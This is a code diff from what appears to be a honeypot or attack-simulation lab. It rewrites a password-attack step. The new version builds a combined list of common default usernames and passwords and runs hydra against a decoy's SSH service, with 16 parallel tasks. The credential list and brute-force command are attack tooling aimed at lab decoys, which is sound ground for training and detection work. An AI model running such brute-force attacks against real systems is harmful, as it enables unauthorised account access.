@@ -2,31 +2,17 @@ import { type AttackShell, openShell, type Typed } from './shell.ts'
 import { decoysNow, type ShownDecoy, type Stage } from './story.ts'
 import { until } from './wait.ts'
 
-/** What a password attack tries: the lists that every bot carries. */
-const userList = ['root', 'admin', 'pi', 'user', 'support', 'ubuntu', 'backup', 'oracle', 'test', 'guest']
-const passwordList = [
-  '123456',
-  'password',
-  'admin',
-  'root',
-  '12345',
-  'raspberry',
-  'ubuntu',
-  'changeme',
-  'qwerty',
-  'letmein',
-  'toor',
-  '1234',
-  'welcome',
-  'P@ssw0rd',
-  'support',
-  'guest',
-  'test',
-  'user',
-  'default',
-  'oracle',
-  'backup',
-]
+const names =
+  'root admin deploy backup support operator devops ansible test pi ubuntu debian anna daniel julia lukas maria mark paul peter sven thomas'
+const words =
+  '123456 password admin root toor admin123 12345678 qwerty 1234 12345 changeme welcome1 P@ssw0rd test123 letmein server default pass123 root123 abc123 raspberry ubuntu'
+
+/** What a password attack tries, commonest first: the names and words that every bot carries, and each name as its own word. */
+const guesses = ['NAME', 'NAME123', 'NAME1', ...words.split(' ')].flatMap((word) =>
+  names.split(' ').map((name) => `${name}:${word.replace('NAME', name)}`),
+)
+/** Connections at a time, as hydra is used by default. */
+const tasks = '16'
 
 export type Login = { decoy: ShownDecoy; user: string; password: string }
 
@@ -46,11 +32,10 @@ export async function portScan({ lab, timeline }: Stage, from: string, cidr: str
 /** hydra with common names and words against one decoy, until it finds a log-in. */
 export async function passwordAttack(stage: Stage, from: string, decoy: ShownDecoy): Promise<Login> {
   const { lab, timeline } = stage
-  await lab.putFile(from, '/tmp/users', `${userList.join('\n')}\n`)
-  await lab.putFile(from, '/tmp/words', `${passwordList.join('\n')}\n`)
+  await lab.putFile(from, '/tmp/guesses', `${guesses.join('\n')}\n`)
   const { stdout, stderr } = await lab.exec(
     from,
-    ['hydra', '-I', '-L', '/tmp/users', '-P', '/tmp/words', '-t', '4', '-f', '-u', `ssh://${decoy.ip}`],
+    ['hydra', '-I', '-C', '/tmp/guesses', '-t', tasks, '-f', `ssh://${decoy.ip}`],
     { timeoutMs: 180_000 },
   )
   const found = /login: (\S+)\s+password: (\S+)/.exec(stdout)
